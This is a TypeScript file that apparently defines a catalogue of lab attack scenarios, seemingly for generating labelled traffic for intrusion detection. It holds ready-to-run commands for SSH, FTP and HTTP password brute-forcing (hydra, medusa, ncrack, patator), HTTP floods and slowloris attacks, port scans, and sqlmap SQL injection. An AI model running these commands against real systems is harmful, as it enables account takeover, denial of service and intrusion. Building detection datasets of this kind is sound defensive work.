import { facts, flood, form, ftp, scan, slow, ssh } from './attackFacts';
import { far, program, servers, sshOptions } from './scenario';
import type { AttackFacts, Options, Scenario } from './scenario';

const { nginx, apache, app, plain } = servers;
/** A program of `attack.ts`, with a seed of its own. */
const attack = (kind: string, seconds: number, seed: number, host: string, port = 80): string =>
  program('attack', kind, seconds, seed, host, port);

const evil = (name: string, about: AttackFacts, commands: string[], options: Options = {}): Scenario => ({
  name,
  attack: about,
  commands,
  seconds: 25,
  ...options,
});
const loop = (one: string): string => `for i in $(seq 400); do ${one}; done`;

/** Several tools for each attack, against several servers. */
export const attackScenarios: readonly Scenario[] = [
  evil('ssh_hydra', ssh('hydra', nginx), [`hydra -I -t 4 -l labuser -P words.txt ${nginx} ssh`]),
  evil('ssh_hydra_far', ssh('hydra', nginx), [`hydra -I -t 8 -L names.txt -P words.txt ${nginx} ssh`], { path: far }),
  evil('ssh_hydra_dropbear', ssh('hydra', app), [`hydra -I -t 3 -l labuser -P words.txt ${app} ssh`]),
  evil('ssh_medusa', ssh('medusa', nginx), [`medusa -h ${nginx} -u labuser -P words.txt -M ssh -t 4`]),
  evil('ssh_medusa_far', ssh('medusa', nginx), [`medusa -h ${nginx} -U names.txt -P words.txt -M ssh -t 3`], {
    path: far,
  }),
  evil('ssh_ncrack', ssh('ncrack', nginx), [`ncrack -p 22 --user labuser -P words.txt ${nginx} -g cl=4,at=3`]),
  evil('ssh_ncrack_dropbear', ssh('ncrack', app), [`ncrack -p 22 --user labuser -P words.txt ${app}`]),
  evil('ssh_patator', ssh('patator', nginx), [
    `patator ssh_login host=${nginx} user=labuser password=FILE0 0=words.txt -t 5 --max-retries=0`,
  ]),
  evil('ssh_script', ssh('ssh guessing script', nginx), [
    loop(
      `sshpass -p word$i ssh ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 root@${nginx} true`,
    ),
    loop(
      `sshpass -p other$i ssh ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 admin@${nginx} true`,
    ),
  ]),
  evil('ssh_nmap', ssh('nmap ssh-brute', nginx), [
    `nmap -n -Pn -p 22 --script ssh-brute --script-args 'userdb=names.txt,passdb=words.txt,brute.threads=4' ${nginx}`,
  ]),
  evil('ftp_hydra', ftp('hydra', nginx), [`hydra -I -t 6 -l ftpuser -P words.txt ${nginx} ftp`]),
  evil('ftp_hydra_app_far', ftp('hydra', app), [`hydra -I -t 4 -l ftpuser -P words.txt -s 2121 ${app} ftp`], {
    path: far,
  }),
  evil('ftp_medusa', ftp('medusa', nginx), [`medusa -h ${nginx} -u ftpuser -P words.txt -M ftp -t 4`]),
  evil('ftp_ncrack', ftp('ncrack', nginx), [`ncrack -p 21 --user ftpuser -P words.txt ${nginx}`]),
  evil('ftp_patator', ftp('patator', nginx), [
    `patator ftp_login host=${nginx} user=ftpuser password=FILE0 0=words.txt -t 5 --max-retries=0`,
  ]),
  evil('ftp_patator_app', ftp('patator', app), [
    `patator ftp_login host=${app} port=2121 user=ftpuser password=FILE0 0=words.txt -t 5 --max-retries=0`,
  ]),
  evil('ftp_script', ftp('ftp guessing script', app), [attack('ftpGuess', 25, 1, app, 2121)]),
  evil('ftp_script_vsftpd', ftp('ftp guessing script', nginx), [attack('ftpGuess', 25, 2, nginx, 21)], {
    offload: false,
  }),
  evil('basic_hydra', form('hydra', nginx), [`hydra -I -t 6 -l admin -P words.txt ${nginx} http-get /basic/`]),
  evil('basic_medusa', form('medusa', apache), [
    `medusa -h ${apache} -u admin -P words.txt -M http -m DIR:/basic/ -t 4`,
  ]),
  evil('form_hydra', form('hydra', app), [
    `hydra -I -t 4 -l admin -P words.txt -s 8000 ${app} http-post-form '/signin:username=^USER^&password=^PASS^:form'`,
  ]),
  evil('form_script', form('form guessing script', app), [attack('formGuess', 25, 3, app, 8000)]),
  evil('form_script_keepalive', form('form guessing script', app), [attack('formGuessKeepAlive', 25, 4, app, 8000)], {
    path: far,
  }),
  evil('basic_script', form('form guessing script', apache), [attack('basicGuess', 25, 5, apache)]),
  evil('flood_hulk', flood('hulk-like script', nginx), [attack('hulk', 12, 6, nginx)], { seconds: 12 }),
  evil('flood_hulk_apache', flood('hulk-like script', apache), [attack('hulk', 12, 7, apache)], {
    seconds: 12,
    offload: false,
  }),
  evil('flood_hulk_far', flood('hulk-like script', app), [attack('hulk', 12, 8, app, 8000)], {
    seconds: 12,
    path: far,
  }),
  evil('flood_goldeneye', flood('goldeneye-like script', nginx), [attack('goldeneye', 14, 9, nginx)], { seconds: 14 }),
  evil('flood_goldeneye_app', flood('goldeneye-like script', app), [attack('goldeneye', 14, 10, app, 8000)], {
    seconds: 14,
    path: far,
  }),
  evil('flood_ab', flood('ab', nginx), [`ab -q -t 8 -n 4000 -c 30 http://${nginx}/p3.html`], { seconds: 12 }),
  evil('flood_ab_keepalive', flood('ab', apache), [`ab -q -k -t 8 -n 9000 -c 40 http://${apache}/p1.html`], {
    seconds: 12,
  }),
  evil('flood_siege', flood('siege', nginx), [`siege -q -b -c 25 -t 9S http://${nginx}/p4.html`], { seconds: 13 }),
  evil('flood_siege_app', flood('siege', app), [`siege -q -b -c 15 -t 9S 'http://${app}:8000/search?q=x'`], {
    seconds: 13,
    path: far,
  }),
  evil('flood_wrk', flood('wrk', nginx), [`wrk -t 2 -c 40 -d 6s http://${nginx}/index.html`], { seconds: 9 }),
  evil(
    'flood_curl',
    flood('curl', apache),
    [1, 2, 3, 4, 5, 6].map(() => loop(`curl -s -o /dev/null http://${apache}/?$RANDOM`)).slice(0, 6),
    { seconds: 12 },
  ),
  evil(
    'ddos_curl',
    facts('ddos', 'http_flood', 'curl', nginx),
    [0, 1, 2, 3, 4].map((i) => loop(`curl -s --interface $ADDRESS${i} -o /dev/null http://${nginx}/p2.html?$RANDOM`)),
    { seconds: 12, addresses: 4 },
  ),
  evil(
    'slow_headers',
    slow('slowhttptest', nginx, 'slowloris'),
    [`slowhttptest -H -c 120 -i 4 -r 30 -l 28 -x 24 -u http://${nginx}/`],
    { seconds: 30 },
  ),
  evil(
    'slow_headers_app',
    slow('slowhttptest', app, 'slowloris'),
    [`slowhttptest -H -c 90 -i 3 -r 30 -l 28 -u http://${app}:8000/`],
    { seconds: 30, path: far },
  ),
  evil(
    'slow_body',
    slow('slowhttptest', nginx),
    [`slowhttptest -B -c 110 -i 4 -r 30 -l 28 -s 8192 -x 10 -u http://${nginx}/upload`],
    { seconds: 30 },
  ),
  evil(
    'slow_body_apache',
    slow('slowhttptest', apache),
    [`slowhttptest -B -c 110 -i 3 -r 30 -l 28 -s 4096 -x 20 -u http://${apache}/p1.html`],
    { seconds: 30, path: far },
  ),
  evil(
    'slow_read',
    slow('slowhttptest', nginx),
    [`slowhttptest -X -c 80 -r 20 -l 28 -w 512 -y 1024 -n 5 -z 32 -u http://${nginx}/f4000000.bin`],
    { seconds: 30 },
  ),
  evil('slowloris_script', slow('slowloris script', nginx, 'slowloris'), [attack('slowloris', 30, 11, nginx)], {
    seconds: 30,
  }),
  evil(
    'slowloris_script_apache',
    slow('slowloris script', apache, 'slowloris'),
    [attack('slowloris', 30, 12, apache)],
    { seconds: 30, path: far },
  ),
  evil('slow_post_script', slow('slow post script', app), [attack('slowPost', 30, 13, app, 8000)], { seconds: 30 }),
  evil('slow_post_script_nginx', slow('slow post script', nginx), [attack('slowPost', 30, 14, nginx)], {
    seconds: 30,
    offload: false,
  }),
  evil('slow_read_script', slow('slow read script', nginx), [attack('slowRead', 28, 15, nginx)], { seconds: 28 }),
  evil('scan_nmap_syn', scan('nmap', nginx), [`nmap -n -Pn -sS -T4 --top-ports 300 ${nginx}`], { seconds: 15 }),
  evil('scan_nmap_connect_far', scan('nmap', app), [`nmap -n -Pn -sT -T4 --top-ports 300 ${app}`], {
    seconds: 20,
    path: far,
  }),
  evil(
    'scan_nmap_version',
    scan('nmap', nginx),
    [`nmap -n -Pn -sV --version-intensity 4 -p 20-100,443,2121 ${nginx}`],
    { seconds: 25 },
  ),
  evil(
    'scan_nmap_odd',
    scan('nmap', apache),
    [
      `nmap -n -Pn -sF -T4 --top-ports 150 ${apache}; nmap -n -Pn -sX -T4 --top-ports 150 ${apache}; nmap -n -Pn -sN -T4 --top-ports 150 ${apache}`,
    ],
    { seconds: 20 },
  ),
  evil(
    'scan_masscan',
    scan('masscan', app),
    [`masscan -p 1-600 --rate 300 --wait 2 --interface eth0 --router-mac $SERVER_MAC ${app}`],
    { seconds: 15 },
  ),
  evil('scan_hping', scan('hping3', plain), [`hping3 -8 1-400 -S ${plain}`], { seconds: 15 }),
  evil('scan_script', scan('connect scan script', nginx), [attack('connectScan', 15, 16, nginx)], { seconds: 15 }),
  evil('scan_script_far', scan('connect scan script', app), [attack('connectScan', 20, 17, app)], {
    seconds: 20,
    path: far,
  }),
  evil('scan_ncat', scan('nc', apache), [`nc -z -v -w 1 ${apache} 1-400`], { seconds: 15 }),
  evil('scan_udp', scan('nmap', nginx, 'udp'), [`nmap -n -Pn -sU --top-ports 40 --max-retries 1 ${nginx}`], {
    seconds: 30,
  }),
  evil(
    'sqli_sqlmap',
    facts('sqli', 'sqli', 'sqlmap', app),
    [`sqlmap -u 'http://${app}:8000/item?id=3' --batch --flush-session --output-dir=sqlmap1 --level 2 --threads 2`],
    { seconds: 30 },
  ),
  evil(
    'sqli_sqlmap_far',
    facts('sqli', 'sqli', 'sqlmap', app),
    [`sqlmap -u 'http://${app}:8000/search?q=3' --batch --flush-session --output-dir=sqlmap2 --level 1`],
    { seconds: 30, path: far },
  ),
  evil('sqli_script', facts('sqli', 'sqli', 'sqli script', app), [attack('sqli', 25, 18, app, 8000)]),
  evil(
    'sqli_script_keepalive',
    facts('sqli', 'sqli', 'sqli keep-alive script', app),
    [attack('sqliKeepAlive', 25, 19, app, 8000)],
    { path: far },
  ),
  evil('xss_script', facts('xss', 'xss', 'xss script', app), [attack('xss', 25, 20, app, 8000)]),
  evil('xss_post_script', facts('xss', 'xss', 'xss post script', app), [attack('xssPost', 25, 21, app, 8000)], {
    path: far,
  }),
  evil('beacon_script', facts('beacon', 'http', 'beacon script', app), [attack('beacon', 45, 22, app, 8000)], {
    seconds: 45,
  }),
];
